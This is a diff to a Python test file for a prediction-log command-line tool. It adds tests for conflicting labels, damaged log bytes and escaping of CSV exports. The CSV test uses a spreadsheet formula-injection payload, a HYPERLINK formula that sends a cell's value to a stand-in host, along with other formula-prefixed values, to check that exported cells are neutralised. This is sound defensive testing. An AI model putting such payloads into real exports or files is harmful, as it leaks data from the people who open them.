@@ -23,6 +23,7 @@ from noria.store import labels
 from noria.store.predictions import Feedback, LogWriter, Prediction, read_all
 
 NOW = int(time.time())
+WHOLE = {"places": 0, "size_bytes": 0}
 PROJECT = """project: hello
 data: {points: points.csv}
 model: {label: late, train: "model:train", rows: points}
@@ -91,11 +92,12 @@ def test_the_newest_first_with_label_and_counts(kept: Path, capsys: pytest.Captu
 def test_json_has_stable_keys(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
     found = ask(capsys, "--limit", "4")
     assert {k: v for k, v in found.items() if k != "predictions"} == {
-        "environment": "production", "count": 40, "labelled": 1, "estimated": 40, "releases": {"v1": 20, "v2": 20},
+        "environment": "production", "count": 40, "labelled": 1, "conflicting": 0, "estimated": 40,
+        "damaged": WHOLE, "releases": {"v1": 20, "v2": 20},
     }  # fmt: skip
     assert found["predictions"][3] == {
         "id": "p3", "at": float(NOW - 3 * 3600), "release": "v1", "variant": "champion", "rollout": None, "key": None,
-        "event_time": None, "latency_ms": 0.5, "error": None, "sample": 1.0, "label": True,
+        "event_time": None, "latency_ms": 0.5, "error": None, "sample": 1.0, "label": True, "labels": 1,
         "inputs": {"carrier": "UA", "distance": 3.5}, "outputs": {"prediction": 1.0, "probability": 0.075},
     }  # fmt: skip
 
@@ -109,14 +111,16 @@ def test_what_is_asked_for(kept: Path, capsys: pytest.CaptureFixture[str]) -> No
     day = datetime.fromtimestamp(NOW - 5 * 3600, UTC).isoformat(sep=" ")
     assert ask(capsys, "--since", day)["count"] == 6
     assert ask(capsys, "-e", "staging") == {
-        "environment": "staging", "count": 0, "labelled": 0, "estimated": 0, "releases": {}, "predictions": [],
+        "environment": "staging", "count": 0, "labelled": 0, "conflicting": 0, "estimated": 0,
+        "damaged": WHOLE, "releases": {}, "predictions": [],
     }  # fmt: skip
     assert "no prediction in production meets that" in say(capsys, "--release", "v9")
 
 
 def test_to_a_file(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert ask(capsys, "--to", "all.parquet") == {
-        "environment": "production", "count": 40, "labelled": 1, "estimated": 40, "releases": {"v1": 20, "v2": 20},
+        "environment": "production", "count": 40, "labelled": 1, "conflicting": 0, "estimated": 40,
+        "damaged": WHOLE, "releases": {"v1": 20, "v2": 20},
         "file": "all.parquet",
     }  # fmt: skip
     table = pq.read_table(kept / "all.parquet").to_pylist()
@@ -127,6 +131,44 @@ def test_to_a_file(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert read["id"].to_list() == [f"p{i}" for i in range(5)]
     assert read["at"].cast(pl.Datetime("us")).dt.epoch("s").to_list() == [NOW - i * 3600 for i in range(5)]
     assert not list(kept.glob(".*.part"))
+
+
+def test_labels_that_differ_are_told(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Number 54: the last label won silently, whoever wrote it."""
+    write(home, Feedback(NOW + 1.0, "hello", False, id="p3"), *(Feedback(NOW + i, "hello", True, id="p4") for i in (1.0, 2.0)))
+    found = ask(capsys, "--where", "label != null")
+    assert [(p["id"], p["label"], p["labels"]) for p in found["predictions"]] == [("p3", False, 2), ("p4", True, 1)]
+    assert found["conflicting"] == 1
+    assert "; 1 got labels that differ, of which the last counts (--where 'labels > 1')" in say(capsys)
+    assert [p["id"] for p in ask(capsys, "--where", "labels > 1")["predictions"]] == ["p3"]
+
+
+def test_no_cell_of_a_csv_runs_as_a_formula(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Number 54: what a client sends may not run in the spreadsheet of who opens the export."""
+    evil = '=HYPERLINK("http://x.example/"&A1)'
+    inputs = {"carrier": evil, "distance": -2.5, "seats": "-7", "=cmd": "+1 (555)"}
+    write(home, answered(0, inputs=inputs, key="@SUM(1)"), environment="staging")
+    say(capsys, "-e", "staging", "--to", "some.csv")
+    (row,) = pl.read_csv(home / "some.csv", infer_schema=False).to_dicts()
+    assert (row["inputs.carrier"], row["key"], row["inputs.=cmd"]) == (f"'{evil}", "'@SUM(1)", "'+1 (555)")
+    assert (row["inputs.distance"], row["inputs.seats"]) == ("-2.5", "-7")
+    say(capsys, "-e", "staging", "--to", "some.parquet")
+    assert pq.read_table(home / "some.parquet").to_pylist()[0]["inputs.carrier"] == evil
+
+
+def test_what_of_the_log_is_damaged_is_told(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Number 51: a flipped byte cost a part of the predictions without a word."""
+    path = max((home / ".noria/log/production").glob("*.plog"), key=lambda p: p.stat().st_size)
+    content = bytearray(path.read_bytes())
+    content[len(content) // 2] ^= 1
+    path.chmod(0o600)
+    path.write_bytes(content)
+    path.chmod(0o400)
+    found = ask(capsys, "--limit", "1")
+    assert (found["count"], found["damaged"]["places"]) == (39, 1)
+    assert 200 < found["damaged"]["size_bytes"] < 400
+    for arguments in ((), ("--to", "all.parquet")):
+        assert "of the log 1 damaged place (" in say(capsys, *arguments)
 
 
 def test_a_sample_is_told_and_estimated(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
